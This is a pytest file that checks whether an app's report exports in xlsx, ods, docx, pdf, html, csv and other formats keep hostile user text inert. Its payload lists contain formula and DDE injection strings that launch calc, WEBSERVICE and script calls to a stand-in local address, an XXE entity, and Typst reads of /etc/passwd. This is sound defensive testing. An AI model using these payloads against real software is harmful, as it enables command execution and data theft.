"""Hostile texts through every format: each file opens in its own reader and in LibreOffice, shows text as text, calls nobody."""

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import docx
import lxml.etree
import lxml.html
import odfdo
import openpyxl
import pypdf
import pytest

from server.reports.contract import Export, export
from server.reports.formats import FORMATS, written
from server.reports.sheet import legible
from server.reports.sheets import sheets
from server.reports.tables import sheet_csv
from server.room.ballots import CloseBallot, PlaceDots
from server.room.promises import WritePromise
from server.room.state import Room
from server.room.terms import OpenBallot
from server.room.themes import MoveNotes
from tests.offices import Listener, listening, opened_by_office
from tests.rooms import AMINA, a_day, enter, new_id, opened, play, post, small

CALL = "http://127.0.0.1:1"
"""Stands for the listener's address in the texts below."""
ENTERED = [
    f'=HYPERLINK("{CALL}/formule","Cliquez")',
    f'=WEBSERVICE("{CALL}/service")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "＝1＋1",
    f'<img src="{CALL}/image" onerror="alert(1)"><script src="{CALL}/script"></script>',
    f'</text:p><draw:image xlink:href="{CALL}/odf"/>',
    f'#read("/etc/passwd") #image("{CALL}/typst") $1/0$ *gras* _x_ \\ @ref <label>',
    '<r><t>riche</t></r><f>HYPERLINK("x")</f></r>',
    "_x0041_ reste tel quel",
    "]]>&amp;&lol;<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "{{ 7*7 }} {% raw %} ${7*7}",
    f"Voir {CALL}/nu ou javascript:alert(1)",
    "première ligne\n=1+1\n  puis   des espaces",
    "avant,=11+1",
    "avant;=12+1",
    "avant\n-13+cmd|' /C calc'!A0",
    "x" * 280,
    "👨‍👩‍👧‍👦 une famille",
    "مرحبا بالعالم",
]
"""What the rules let in, as it is written."""
WORSE = [
    *ENTERED,
    "un\x00deux\x07trois\x1b[31mquatre",
    "\u202egauche\u202c et droite",
    "y" * 500,
    "demi \ud800 signe, \ufffe\uffff pas un signe",
    "\r\n\t=1+1",
]
"""What nobody can enter today; a journal of yesterday or a session file might hold it."""
READ_WHOLE = [*(name for name in FORMATS if name != "svg"), "fr.csv", "open.csv"]
"""The formats that hold every text; the poster cuts what is too long."""


@dataclass(frozen=True)
class Case:
    """An export full of hostile texts, and its files by extension."""

    texts: list[str]
    files: dict[str, bytes]


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    with listening() as listener:
        yield listener


@pytest.fixture(scope="module")
def cases(listener: Listener) -> dict[str, Case]:
    entered, worse = ([text.replace(CALL, listener.url) for text in texts] for texts in (ENTERED, WORSE))
    return {"entered": Case(entered, files(export(led(entered)))), "worse": Case(worse, files(spoiled(worse)))}


def led(texts: list[str]) -> Room:
    """A room that people filled with these texts: notes, names of themes, a ballot's options, promises."""
    hostile = {"title": texts[0][:140], "gisements": [{"title": texts[6][:100], "short": "=1+1"}]}
    room = opened(small(**hostile), "gather")
    for text in texts:
        play(room, MoveNotes(new_id(), (post(room, text),), None, text[:60]))
    enter(room, "sort")
    play(room, OpenBallot("vote", "themes", "=1+1"))
    ballot = room.latest_ballot()
    assert ballot
    play(room, PlaceDots(new_id(), ballot.id, ballot.terms.options[0].id, 1), AMINA)
    play(room, CloseBallot(new_id(), ballot.id, reveal=True))
    for n, text in enumerate(texts[:15]):
        play(room, WritePromise(new_id(), f"p{n}", text, "g1", text[:80]))
    return room


def spoiled(texts: list[str]) -> Export:
    """A day's export whose every text is one of these, with nothing to check them."""
    found = export(a_day()[0])
    n = found.notes[0].model_copy(update={"hidden": False, "erased": False, "late": False})
    theme = found.themes[0]
    notes = [n.model_copy(update={"id": f"n{i}", "text": text, "theme": f"t{i}"}) for i, text in enumerate(texts)]
    themes = [
        theme.model_copy(update={"id": f"t{i}", "label": text, "notes": [f"n{i}"]}) for i, text in enumerate(texts)
    ]
    promise = found.promises[0]
    promises = [
        promise.model_copy(update={"id": f"p{i}", "text": text, "carrier": text}) for i, text in enumerate(texts)
    ]
    spoils = {"title": texts[0], "territory": texts[3], "notes": notes, "themes": themes, "promises": promises}
    priorities = [p.model_copy(update={"label": text}) for p, text in zip(found.priorities, texts, strict=False)]
    gisements = [g.model_copy(update={"title": text}) for g, text in zip(found.gisements, texts[5:], strict=False)]
    ballots = [ballot.model_copy(update={"title": texts[1], "why": texts[2]}) for ballot in found.ballots]
    return found.model_copy(update=spoils | {"priorities": priorities, "gisements": gisements, "ballots": ballots})


def files(found: Export) -> dict[str, bytes]:
    notes = next(sheet for sheet in sheets(found) if sheet.id == "notes")
    tables = {"fr.csv": sheet_csv(notes, "fr"), "open.csv": sheet_csv(notes, "open")}
    return {extension: written(found, extension) for extension in FORMATS} | tables


@pytest.fixture(scope="module")
def shown(cases: dict[str, Case], listener: Listener, tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """Every file of both cases, as LibreOffice shows it; and one of ours that does call, to know that it would be heard."""
    folder = tmp_path_factory.mktemp("office")
    paths = [folder / "calls.html"]
    paths[0].write_text(f'<p><img src="{listener.url}/calls"></p>', encoding="utf-8")
    for name, case in cases.items():
        for extension, body in case.files.items():
            paths.append(folder / f"{name}-{extension.replace('.', '-')}.{extension.rsplit('.')[-1]}")
            paths[-1].write_bytes(body)
    return opened_by_office(paths, folder)


def essence(text: str) -> str:
    """A text less what layout, typography and French quotes may change in it."""
    return re.sub(r"[\s\u200b-\u200f\u2060\u00ad\ufffd\"'’«»,;]", "", text)


def plain(text: str) -> str:
    return re.sub(r"[^\x20-\x7e]", "", essence(text))


def missing(texts: list[str], told: str, less: Callable[[str], str] = essence) -> list[str]:
    told = less(told)
    return [text for text in texts if less(legible(text)) not in told]


def in_xlsx(body: bytes) -> str:
    book = openpyxl.load_workbook(io.BytesIO(body))
    cells = [cell for page in book for row in page.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n", "b", "d"}  # no "f": a formula
    return "\n".join(str(cell.value) for cell in cells).replace("_x005F_", "_")


def in_odf(body: bytes) -> str:
    book = odfdo.Document(io.BytesIO(body))
    return "\n".join(paragraph.inner_text for paragraph in book.body.get_paragraphs())


def in_docx(body: bytes) -> str:
    document = docx.Document(io.BytesIO(body))
    return "\n".join("".join(part.itertext()) for part in document.element.body.iter("{*}p"))


def in_pdf(body: bytes) -> str:
    return "\n".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(body)).pages)


def in_html(body: bytes) -> str:
    page = lxml.html.fromstring(body.decode())
    for part in page.xpath("//head"):
        part.drop_tree()
    return str(page.text_content())


def in_csv(body: bytes) -> str:
    text = body.decode("utf-8-sig")
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=";" if body.startswith(b"\xef\xbb\xbf") else ",")
    return "\n".join(cell for row in rows for cell in row)


READERS = {
    "xlsx": in_xlsx,
    "ods": in_odf,
    "odt": in_odf,
    "docx": in_docx,
    "pdf": in_pdf,
    "html": in_html,
    "csv": in_csv,
}


@pytest.mark.parametrize("case", ["entered", "worse"])
@pytest.mark.parametrize("extension", READ_WHOLE)
class TestEachFile:
    def test_opens_in_its_own_reader_with_every_text(self, cases, extension, case):
        told = READERS[extension.rsplit(".")[-1]](cases[case].files[extension])
        # a PDF keeps right-to-left runs and joined emoji in an order of its own
        assert missing(cases[case].texts, told, plain if extension == "pdf" else essence) == []

    def test_opens_in_libreoffice_which_shows_every_text_as_text(self, cases, shown, extension, case):
        """CSV, which says neither its language nor its separator, is opened as LibreOffice guesses: the worst of both."""
        page = shown[f"{case}-{extension.replace('.', '-')}.{extension.rsplit('.')[-1]}"]
        guessed = extension.endswith("csv") or extension == "pdf"
        assert missing(cases[case].texts, in_html(page.encode()), plain if guessed else essence) == []


def test_nothing_calls_the_address_that_hostile_texts_name(shown, listener):
    assert [asked for asked in listener.heard if "/calls" in asked]
    assert [asked for asked in listener.heard if "/calls" not in asked] == []


ACTS = {
    "f",
    "script",
    "scripts",
    "event-listener",
    "dde-source",
    "oleObject",
    "object-ole",
    "plugin",
    "applet",
}
FIELDS = ("PAGE", "NUMPAGES", "TOC", "PAGEREF", "REF", "HYPERLINK \\l")


def active(part: bytes) -> list[str]:
    """What would compute, run or lead out of an office file, in one of its XML parts."""
    found = []
    for one in lxml.etree.fromstring(part or b"<nothing/>").iter("{*}*"):
        name = lxml.etree.QName(one).localname
        if name in ACTS and (name == "f" or len(one)):
            found.append(name)
        fields = (
            [one.text]
            if name == "instrText"
            else [value for key, value in one.attrib.items() if key.endswith("}instr")]
        )
        found += [f"field {field}" for field in fields if not field.strip().startswith(FIELDS)]
        for key, value in one.attrib.items():
            kind = lxml.etree.QName(key).localname
            if kind == "formula" or value == "External" or (kind == "href" and re.match("[a-z]+:", value)):
                found.append(f"{name} {kind}={value}")
    return found


@pytest.mark.parametrize("case", ["entered", "worse"])
class TestNoFile:
    @pytest.mark.parametrize("extension", ["xlsx", "ods", "docx", "odt"])
    def test_of_an_office_has_a_formula_a_field_a_script_or_a_link_out(self, cases, extension, case):
        package = zipfile.ZipFile(io.BytesIO(cases[case].files[extension]))
        parts = [name for name in package.namelist() if name.endswith((".xml", ".rels"))]
        assert [(name, what) for name in parts for what in active(package.read(name))] == []

    @pytest.mark.parametrize("extension", ["html", "svg"])
    def test_has_a_script_a_handler_or_an_address(self, cases, extension, case):
        body = cases[case].files[extension]
        tree = lxml.html.fromstring(body.decode()) if extension == "html" else lxml.etree.fromstring(body)
        parts = [part for part in tree.iter() if isinstance(part.tag, str)]
        assert not {lxml.etree.QName(part).localname for part in parts} & {
            "script",
            "iframe",
            "object",
            "img",
            "image",
            "foreignObject",
        }
        out = [
            (name, value)
            for part in parts
            for name, value in part.attrib.items()
            if name.startswith("on") or (name.endswith(("href", "src")) and not value.startswith("#"))
        ]
        assert out == []

    def test_of_pdf_has_an_action_or_an_attachment(self, cases, case):
        reader = pypdf.PdfReader(io.BytesIO(cases[case].files["pdf"]))
        acts = [note.get_object().get("/A", {}) for page in reader.pages for note in page.get("/Annots", [])]
        assert {str(act.get("/S", "/GoTo")) for act in acts} <= {"/GoTo"}
        assert not {"/OpenAction", "/AA", "/JavaScript"} & set(reader.root_object)
        assert reader.attachments == {}
